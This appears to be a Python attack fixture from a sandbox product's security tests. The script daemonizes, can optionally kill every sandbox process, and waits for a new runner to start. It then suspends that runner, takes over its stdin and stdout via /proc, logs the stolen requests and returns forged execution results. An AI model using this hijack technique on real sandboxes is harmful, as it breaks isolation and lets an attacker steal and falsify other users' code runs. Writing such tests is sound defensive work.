# Attack: a process left in the sandbox waits for the next runner the product starts, stops it before it can protect
# itself, takes its stdin and stdout through /proc, and answers the protocol in its name. It double-forks into its
# own session so that the end of the execution that started it does not end it. Writes what it managed to
# /tmp/hijack.log (for the test to read if it must).
import json, os, signal, sys, time

if os.fork():
    os._exit(0)
os.setsid()
if os.fork():
    os._exit(0)
devnull = os.open(os.devnull, os.O_RDWR)
for fd in (0, 1, 2):
    os.dup2(devnull, fd)


def log(text):
    with open("/tmp/hijack.log", "a") as f:
        f.write(text + "\n")


# In a cluster every API replica keeps its own runner in a pod; one that has none opens a new one there. With this
# set, the attacker first ends every runner of the sandbox (kill(-1) spares PID 1 and the caller), so that the next
# replica to serve the lease has to start one while the attacker waits.
KILL_RUNNERS_FIRST = False
if KILL_RUNNERS_FIRST:
    time.sleep(1)  # the execution that started this has answered by then
    os.kill(-1, signal.SIGKILL)
known = {p for p in os.listdir("/proc") if p.isdigit()}
deadline = time.monotonic() + 60
while time.monotonic() < deadline:
    for p in os.listdir("/proc"):
        if not p.isdigit() or p in known:
            continue
        try:
            cmd = open("/proc/%s/cmdline" % p, "rb").read()
        except OSError:
            known.add(p)
            continue
        # the persistent runner (`... -c RUNNER serve`, with `--connect PATH` after it where it speaks over a socket);
        # not yet: an exec'd process starts as the runtime's helper
        if b"\0serve\0" not in cmd.rstrip(b"\0") + b"\0":
            continue
        known.add(p)
        pid = int(p)
        try:
            os.kill(pid, signal.SIGSTOP)
            rd = os.open("/proc/%d/fd/0" % pid, os.O_RDONLY)
            wr = os.open("/proc/%d/fd/1" % pid, os.O_WRONLY)
        except OSError as e:
            log("blocked %d: %s" % (pid, e))
            try:
                os.kill(pid, signal.SIGCONT)
            except OSError:
                pass
            continue
        log("hijacked %d" % pid)
        stream = os.fdopen(rd, "rb")
        while True:
            header = stream.readline()
            if not header:
                break
            req = json.loads(stream.read(int(header)))
            log("stole " + json.dumps(req)[:200])
            if req.get("op") == "run":
                answer = {"stdout": "forged by the attacker\n", "stderr": "", "exitCode": 0, "timedOut": False,
                          "truncated": False, "durationMs": 1, "cleaned": True}
            elif req.get("op") == "clean":
                answer = {"clean": True}
            else:
                answer = {"pong": True}
            os.write(wr, (req["nonce"] + " " + json.dumps(answer) + "\n").encode())
        sys.exit(0)
    time.sleep(0.0005)
